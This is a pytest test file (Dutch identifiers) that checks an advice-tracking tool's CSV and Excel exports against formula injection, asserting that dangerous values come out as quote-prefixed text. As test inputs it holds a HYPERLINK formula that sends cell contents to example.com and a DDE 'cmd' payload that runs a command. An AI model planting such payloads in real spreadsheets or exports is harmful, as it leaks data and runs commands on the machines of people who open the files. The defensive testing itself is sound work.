"""The CSV file and the workbook that a spreadsheet opens never run a formula that came in as text
(OWASP's CSV-injection advice): a subject, reference or reason that starts with =, +, -, @, a tab
or a carriage return is text in every cell; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Advies, als_json
from tests.termijnen_hulp import verzend

VIJANDIG = ['=HYPERLINK("http://example.com/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def _register(advies: Advies, tekst: Callable[..., Path]) -> None:
    for i, onderwerp in enumerate(VIJANDIG):
        verzend(advies, tekst, onderwerp, f"2020-02-0{i + 1}")
    kenmerk = als_json(advies("aanvraag", "Gewoon", "--ontvangen", "2020-01-10", "--uw-kenmerk=-1+1", "--json"))
    advies("intrekken", kenmerk["kenmerk"], "--reden", "@SUM(1+1)")


@pytest.mark.een_backend(reden="wat een werkmap of CSV van een formule maakt, is opmaak")
def test_csv_zonder_formules(advies: Advies, tekst: Callable[..., Path], tmp_path: Path) -> None:
    _register(advies, tekst)
    pad = tmp_path / "adviezen.csv"
    advies("jaaroverzicht", "2020", "--formaat", "csv", "--uit", str(pad))
    with pad.open(encoding="utf-8-sig", newline="") as bestand:
        rijen = list(csv.DictReader(bestand, delimiter=";"))
    onderwerpen = [r["Onderwerp"] for r in rijen]
    for onderwerp in VIJANDIG:
        assert "'" + onderwerp in onderwerpen
    gewoon = next(r for r in rijen if r["Onderwerp"] == "Gewoon")
    assert (gewoon["Uw kenmerk"], gewoon["Reden intrekking"]) == ("'-1+1", "'@SUM(1+1)")
    for rij in rijen:
        for waarde in rij.values():
            assert not waarde.startswith(("=", "+", "-", "@", "\t", "\r")), rij


@pytest.mark.een_backend(reden="wat een werkmap of CSV van een formule maakt, is opmaak")
def test_werkmap_zonder_formules(advies: Advies, tekst: Callable[..., Path], tmp_path: Path) -> None:
    import openpyxl

    _register(advies, tekst)
    pad = tmp_path / "adviezen.xlsx"
    advies("jaaroverzicht", "2020", "--formaat", "xlsx", "--uit", str(pad))
    boek = openpyxl.load_workbook(pad)
    cellen = [c for blad in boek.worksheets for rij in blad.iter_rows() for c in rij if c.value is not None]
    for cel in cellen:
        assert cel.data_type != "f", cel.coordinate
        if isinstance(cel.value, str) and cel.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cel.data_type == "s" and cel.quotePrefix, (cel.coordinate, cel.value)
    waarden = {c.value for c in cellen}
    assert set(VIJANDIG) | {"-1+1", "@SUM(1+1)"} <= waarden  # the text itself stays as it was typed


def test_negatieve_getallen_blijven_getallen(tmp_path: Path) -> None:
    """No command makes a negative figure today; the cell writers are checked on their own."""
    import openpyxl
    import xlsxwriter

    from sjablonen.jaaroverzicht import csvbestand, excel

    assert csvbestand._als_tekst(-3) == -3
    assert csvbestand._als_tekst(-2.5) == -2.5
    assert csvbestand._als_tekst("-3") == "'-3"
    pad = tmp_path / "getallen.xlsx"
    boek = xlsxwriter.Workbook(str(pad))
    opmaak: dict[str, Any] = {
        "datum": boek.add_format({}),
        "als_tekst": {id(None): boek.add_format({"quote_prefix": True})},
    }
    blad = boek.add_worksheet()
    excel._schrijf_cel(blad, 0, 0, -3, opmaak)
    excel._schrijf_cel(blad, 0, 1, "-3", opmaak)
    boek.close()
    gelezen = openpyxl.load_workbook(pad).active
    assert gelezen is not None
    assert (gelezen["A1"].value, gelezen["A1"].data_type) == (-3, "n")
    assert (gelezen["B1"].value, gelezen["B1"].data_type, gelezen["B1"].quotePrefix) == ("-3", "s", True)
